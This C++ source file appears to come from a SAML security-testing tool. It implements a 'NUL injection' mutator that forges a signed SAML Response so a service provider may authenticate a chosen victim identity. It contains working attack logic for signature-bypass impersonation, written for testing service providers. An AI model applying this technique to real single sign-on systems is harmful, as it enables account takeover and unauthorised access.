// SPDX-License-Identifier: Apache-2.0
// parser.nul_injected — a NUL byte in the decoded message (attack-catalogue PD-NUL; cpp-opensaml
// SimpleSigningRule.cpp builds the signed input from a C string of the decoded XML). XML 1.0 §2.2:
// U+0000 is not a Char, so the document is not well-formed; an SP that verifies a strlen() view
// and parses the full buffer (or the reverse) sees two different messages.
#include "mutators/c14n/c14n.hpp"
#include "mutators/mutators.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {

// Params: place (after_root: the signed Response, a NUL, then a forged copy naming the victim |
// inside_name_id: the NameID becomes the victim's address, a NUL, then the issued text; default
// after_root), victim.
core::Result<void> parser_nul_injected(Target& target) {
  namespace n = core::names;
  auto place_param = string_param(target, "place");
  auto victim = victim_of(target);
  if (!place_param || !victim) {
    return core::fail(!place_param ? place_param.error() : victim.error());
  }
  std::string place = place_param->value_or("after_root");
  if (place != "after_root" && place != "inside_name_id") {
    return core::fail(core::Reason::mutator_params_invalid, "/place: expected after_root or inside_name_id");
  }
  auto parsed = core::parse_strict(*target.xml);
  if (!parsed) {
    return core::fail(core::Reason::mutator_not_applicable, "the message does not parse: " + parsed.error().detail);
  }
  xmlNode* assertion = core::child_named(parsed->root(), n::ns_assertion, "Assertion");
  if (assertion == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "no Assertion");
  }
  if (place == "after_root") {
    write_victim(assertion, *victim);
    *target.xml += std::string(1, '\0') + core::serialize(*parsed);
    return {};
  }
  xmlNode* name_id = core::descendants_named(assertion, n::ns_assertion, "NameID").at(0);
  std::string issued = core::simple_text(name_id).value_or("");
  std::string from = ">" + issued + "</NameID>";
  auto at = target.xml->find(from);
  if (issued.empty() || at == std::string::npos) {
    return core::fail(core::Reason::mutator_not_applicable, "no NameID text");
  }
  target.xml->replace(at, from.size(), ">" + *victim + std::string(1, '\0') + issued + "</NameID>");
  return {};
}

}  // namespace samlt::idp::mutators
